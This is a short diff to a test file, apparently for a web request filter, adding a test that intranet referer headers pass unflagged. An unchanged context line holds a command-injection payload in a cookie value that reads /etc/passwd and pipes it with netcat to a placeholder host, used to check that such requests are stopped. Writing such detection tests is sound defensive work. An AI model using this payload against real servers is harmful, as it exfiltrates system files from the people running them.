@@ -98,6 +98,11 @@ describe('a command for the server', () => {
     expect(isStopped(get('/', [['cookie', 'a=1; b=$(cat /etc/passwd|nc 192.0.2.1 4444)']]))).toBe(true);
   });
 
+  it('is not where a visitor of a site in an intranet comes from', () => {
+    for (const from of ['http://127.0.0.1:20001/page', 'http://192.168.1.20/node/1', 'http://intranet/'])
+      expect(get('/', [['referer', from]]), from).toMatchObject({ action: 'pass', reasons: [] });
+  });
+
   it('is not a visit with the usual headers', () => {
     const headers = [
       ['cookie', '_ga=GA1.2.1826593302.1644013078; SESS00a8578c7c9d95f4=bON5h-Lu78rctuBd3sOF7M1D9vxgkGRHXe'],
